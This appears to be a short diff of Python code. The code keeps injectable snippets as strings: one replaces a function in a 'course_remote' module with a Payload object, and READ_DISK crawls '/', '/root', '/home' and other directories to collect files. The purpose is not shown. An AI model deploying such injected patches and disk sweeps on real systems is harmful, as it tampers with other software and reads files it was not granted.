@@ -122,10 +122,11 @@ class Payload:
 course_remote._plain = lambda value: Payload()
 """
 READ_DISK = """
+import sys
 found, looked = [], 0
 for top in ("/", "/tmp", "/root", "/home", os.path.expanduser("~"), os.getcwd()):
     for place, folders, names in os.walk(top):
-        if place.startswith(("/proc", "/sys", "/usr", "/dev")) or "site-packages" in place:
+        if place.startswith(("/proc", "/sys", "/usr", "/dev", sys.prefix, sys.base_prefix)):
             folders[:] = []
             continue
         for name in names:
